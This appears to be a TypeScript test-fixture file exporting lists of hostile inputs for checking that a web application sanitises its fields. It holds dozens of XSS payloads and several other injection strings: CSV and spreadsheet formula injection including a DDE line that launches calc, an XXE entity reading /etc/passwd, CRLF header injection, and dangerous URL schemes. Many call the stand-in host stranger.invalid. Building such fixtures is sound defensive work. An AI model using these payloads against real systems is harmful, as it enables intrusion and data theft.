/** Where a payload calls, should it run: a name that nobody has. */
export const STRANGER = 'stranger.invalid'

/**
 * Words that somebody may write into any field, a reporter, an agency's copy or a stolen account: each tries to become markup,
 * script, a style, an address, a header or the end of what stands around it. They run `alert`, set `window.ran` or ask STRANGER.
 */
export const HOSTILE_WORDS: string[] = [
  '<script>window.ran=1</script>',
  '</script><script>window.ran=1</script>',
  '</ScRiPt ><script/x>window.ran=1//',
  '<!--<script>',
  '--><script>window.ran=1</script><!--',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">window.ran=1</script>',
  '<![CDATA[<script>window.ran=1</script>]]>',
  '<img src=x onerror=alert(1)>',
  '<img src=//stranger.invalid/i>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=//stranger.invalid/o>',
  '<base href=//stranger.invalid/>',
  '<meta http-equiv=refresh content=0;url=//stranger.invalid>',
  '<link rel=stylesheet href=//stranger.invalid/s>',
  '<style>@import"//stranger.invalid/c"</style>',
  '<form action=//stranger.invalid><button autofocus>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '<template><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '`onmouseover=alert(1)`',
  '" style="background:url(//stranger.invalid/b)',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what it says
  '${alert(1)}#{alert(1)}<%= alert(1) %>',
  '";window.ran=1;//',
  "');window.ran=1;//",
  '\\";window.ran=1;//',
  '*/window.ran=1;/*',
  '\u2028window.ran=1\u2029//',
  '$RC=1;$RX("x")<template id="B:0"></template>',
  'self.__next_f.push([1,"<script>"])',
  '__proto__[ran]=1',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '&e; &nbsp; &#x0; & < >',
  '\u202Egnp.exe\u202C\u2066<script>',
  'a\u0000<script>\u0008\u000b\u001f\ufffe',
  '\ud800<img src=x onerror=alert(1)>\udfff',
  'x\r\nX-Injected: 1\r\n\r\n<script>window.ran=1</script>',
  'x\nevent: reset\ndata: {}\nid: 9\n\n',
  '=HYPERLINK("//stranger.invalid","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\ufeff<script>window.ran=1</script>',
  '＜script＞alert(1)＜/script＞',
]

/** What a spreadsheet would run, in every way a cell can begin with it. */
export const FORMULAS: string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '＝1+1',
  '＠SUM(1+1)',
  '=HYPERLINK("//stranger.invalid/?"&A1,"x")',
  '","=1+1',
  'x"\r\n"=1+1',
]

/** Addresses that must not come to stand in any `href`. */
export const HOSTILE_ADDRESSES: string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://stranger.invalid/1',
  'file:///etc/passwd',
  '//stranger.invalid/x',
  '/\\stranger.invalid/x',
  'https:stranger.invalid onclick=alert(1)',
  'mailto:a@b.example" onclick="alert(1)',
]

/** Cut to what a field takes; never empty. */
export const fitting = (words: string, most: number): string => [...words].slice(0, most).join('').trim() || 'x'
